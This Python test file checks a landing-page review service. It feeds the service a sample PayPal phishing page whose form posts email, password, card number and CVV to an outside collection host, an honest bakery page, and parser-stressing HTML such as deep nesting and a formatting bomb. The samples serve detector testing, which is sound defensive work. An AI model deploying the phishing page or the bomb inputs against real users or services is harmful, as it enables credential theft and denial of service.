"""Landing pages over real HTTP: page signals and the phishing head as evidence; hostile HTML."""

from __future__ import annotations

import json
import time

PHISH = """<html><head><title>PayPal | Log in to your account</title></head><body>
<h1>PayPal</h1><p>Your account has been limited. Verify within 24 hours or it will be suspended.</p>
<form action="http://collect.verify-session.ru/gate.php" method="post">
  <label for="e">Email</label><input id="e" name="email">
  <label for="p">Password</label><input id="p" type="password" name="pass">
  <label for="c">Card number</label><input id="c" name="cardnumber" autocomplete="cc-number">
  <input name="cvv" placeholder="CVV">
</form></body></html>"""

BAKERY = """<html><head><title>Rosie's Bakery - Fresh bread in Leeds</title>
<meta name="description" content="Family bakery since 1987"></head><body>
<nav><a href="/menu">Menu</a> <a href="/about">About us</a> <a href="/contact">Contact</a>
<a href="/privacy">Privacy policy</a> <a href="/terms">Terms</a> <a href="/returns">Refunds</a></nav>
<p>Sourdough, rye and pastries baked every morning. Call 0113 496 0000 or email hello@rosies.example.</p>
<p>12 Market Street, Leeds LS1 6DT</p></body></html>"""


def review(client, rid: str, **page) -> dict:
    resp = client.post("/v1/review", json={"request_id": rid, "landing_page": page})
    assert resp.status_code == 200, resp.text
    return resp.json()


def test_phishing_page_signals_and_head(client):
    body = review(client, "page-phish", html=PHISH, url="http://paypal-account-verify.secure-login.top/signin")
    sources = {e["source"] for e in body["evidence"] if e["category"] == "phishing"}
    assert {"landing_page:credential_field", "landing_page:cross_domain_form",
            "landing_page:brand_domain_mismatch", "landing_page.phishing_head"} <= sources
    assert body["scores"]["phishing"] > 0.9
    assert body["decision"]["action"] in {"reject", "suspend_account"}
    assert body["model_versions"]["page_head"].startswith("page-phishing@")


def test_html_only_phishing_page_still_flagged(client):
    body = review(client, "page-phish-nourl", html=PHISH)
    assert body["scores"]["phishing"] >= 0.5
    head = [e for e in body["evidence"] if e["source"] == "landing_page.phishing_head"]
    assert head and "HTML-only" in head[0]["detail"]


def test_honest_bakery_page_is_approved(client):
    body = review(client, "page-bakery", html=BAKERY, url="https://www.rosies-bakery.example/")
    assert body["decision"]["action"] == "approve", body["decision"]
    assert body["scores"]["phishing"] < 0.5
    assert not any(e["source"] == "landing_page:missing_business_identity" for e in body["evidence"])


def test_hostile_html_answers_quickly_and_service_stays_up(client):
    pages = {
        "nested": "<div>" * 100_000,
        "formatting-bomb": "<p><b id=x></p>" * 4000,
        "near-limit": "<p>" + "a" * (5 * 1024 * 1024 - 100) + "</p>",
        "odd-chars": "\ufeff\x00<html>\ud7ff<title>\u202e</title>" + "<\udbff" * 10,
    }
    for name, html in pages.items():  # json.dumps writes lone surrogates as \\u escapes
        started = time.monotonic()
        payload = json.dumps({"request_id": f"hostile-{name}", "landing_page": {"html": html}})
        resp = client.post("/v1/review", content=payload.encode(), headers={"content-type": "application/json"})
        assert resp.status_code in (200, 400, 413, 422), (name, resp.status_code, resp.text[:300])
        assert time.monotonic() - started < 30, name  # a guard, not a speed claim
    too_big = client.post("/v1/review", json={"request_id": "hostile-too-big",
                                               "landing_page": {"html": "a" * (5 * 1024 * 1024 + 10)}})
    assert too_big.status_code == 413
    assert client.get("/readyz").status_code == 200
